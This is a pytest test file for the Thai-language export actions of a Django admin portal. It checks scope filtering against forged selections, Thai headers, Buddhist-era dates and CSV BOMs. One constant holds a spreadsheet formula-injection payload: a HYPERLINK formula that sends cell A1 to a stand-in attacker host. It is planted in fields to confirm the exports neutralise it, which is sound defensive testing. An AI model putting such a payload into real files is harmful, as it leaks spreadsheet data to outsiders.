"""Export actions of the supervisors' changelists (issue 15): agencies, assessments, measures,
meetings and reports as XLSX and as CSV with a BOM, through the portal's one writer — the ticked
rows within the user's scope only, Thai headers, BE dates, no cell a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import Assessment
from ita_portal.agencies.models import Agency
from measures.models import FollowUp, Measure
from reports.models import Report
from tests.factories_admin import rows_for

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"ดูผล")'


@pytest.fixture
def rows(world):
    return {"a": rows_for(world.agency_a, "ของเอ"), "b": rows_for(world.agency_b, "ของบี")}


def _targets(world, rows):
    """(model, row of A, row of B, header expected, a Thai text that marks A's row) per changelist;
    A's row carries a formula-like text in one column."""
    a, b = rows["a"], rows["b"]
    Agency.objects.filter(pk=world.agency_a.pk).update(short_name=FORMULA)
    Assessment.objects.filter(pk=a.assessment.pk).update(note=FORMULA)
    Measure.objects.filter(pk=a.measure.pk).update(title=FORMULA, start_date=dt.date(2024, 6, 1))
    followup_a = FollowUp.objects.get(measure=a.measure)
    followup_b = FollowUp.objects.get(measure=b.measure)
    FollowUp.objects.filter(pk=followup_a.pk).update(place=FORMULA)
    Report.objects.filter(pk=a.report.pk).update(subject=FORMULA, doc_date=dt.date(2024, 6, 3))
    return [
        (Agency, world.agency_a.pk, world.agency_b.pk, "รหัสหน่วยงาน", world.agency_a.code, None),
        (Assessment, a.assessment.pk, b.assessment.pk, "รหัสหน่วยงาน", world.agency_a.code, None),
        (Measure, a.measure.pk, b.measure.pk, "รหัสหน่วยงาน", world.agency_a.code, "1 มิ.ย. 2567"),
        (FollowUp, followup_a.pk, followup_b.pk, "รหัสหน่วยงาน", world.agency_a.code, "15 มิ.ย. 2567 09:00"),
        (Report, a.report.pk, b.report.pk, "รหัสหน่วยงาน", world.agency_a.code, "3 มิ.ย. 2567"),
    ]


def _changelist(model) -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")


def _export(client, model, fmt: str, pks, select_across: bool = False):
    data = {"action": f"export_{fmt}", "_selected_action": [str(pk) for pk in pks], "index": "0"}
    if select_across:
        data["select_across"] = "1"
    return client.post(_changelist(model), data)


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[c.value for c in row] for row in sheet.iter_rows()], sheet


def _csv_rows(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf"), "CSV without a BOM: Excel shows Thai as mojibake"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("index", range(5))
def test_supervisor_exports_the_selected_rows_of_their_scope(world, rows, index):
    model, pk_a, pk_b, header, code_a, be_text = _targets(world, rows)[index]
    client = world.client_for("supervisor")
    # Both rows ticked (B's by a forged POST): only A's comes out.
    response = _export(client, model, "xlsx", [pk_a, pk_b])
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment;") and ".xlsx" in response["Content-Disposition"]
    table, sheet = _xlsx_rows(response)
    assert table[0][0] == header
    assert all(not str(h).isascii() for h in table[0]), table[0]  # Thai headers
    assert len(table) == 2, table
    assert table[1][0] == code_a
    flat = [v for v in table[1]]
    assert FORMULA in flat
    formula_cell = sheet.cell(row=2, column=flat.index(FORMULA) + 1)
    assert formula_cell.data_type == "s" and formula_cell.quotePrefix  # text, not a formula
    assert world.agency_b.code not in map(str, flat) and "ของบี" not in " ".join(map(str, flat))
    if be_text:
        assert be_text in flat
    assert not any(isinstance(v, str) and "2024" in v for v in flat)

    response = _export(client, model, "csv", [pk_a, pk_b])
    assert response["Content-Type"].startswith("text/csv")
    table = _csv_rows(response)
    assert table[0][0] == header
    assert len(table) == 2 and table[1][0] == code_a
    assert "'" + FORMULA in table[1] and FORMULA not in table[1]
    if be_text:
        assert be_text in table[1]


@pytest.mark.parametrize("model", [Agency, Assessment, Measure, FollowUp, Report])
def test_select_across_exports_every_row_of_the_scope_and_no_other(world, rows, model):
    client = world.client_for("supervisor")
    table = _csv_rows(_export(client, model, "csv", [1], select_across=True))
    codes = {row[0] for row in table[1:]}
    if model is Agency:
        assert codes == {world.supervising.code, world.agency_a.code}
    else:
        expected = model.objects.filter(agency__in=[world.agency_a, world.supervising]).count()
        assert len(table) - 1 == expected >= 1
        assert codes == {world.agency_a.code}
    # The superuser sees every agency's rows.
    table = _csv_rows(_export(world.client_for("superuser"), model, "csv", [1], select_across=True))
    assert world.agency_b.code in {row[0] for row in table[1:]}


@pytest.mark.parametrize("role", ["anonymous", "outsider", "staff_a", "director_a", "staff_b"])
def test_export_is_refused_outside_the_admin(world, rows, role):
    response = _export(world.client_for(role), Measure, "csv", [rows["a"].measure.pk])
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert b"\xef\xbb\xbf" not in response.content


def test_export_actions_are_offered_in_thai(world, rows):
    html = world.client_for("supervisor").get(_changelist(Measure)).content.decode()
    assert 'value="export_xlsx"' in html and "ส่งออกรายการที่เลือกเป็น Excel (XLSX)" in html
    assert 'value="export_csv"' in html and "ส่งออกรายการที่เลือกเป็น CSV" in html
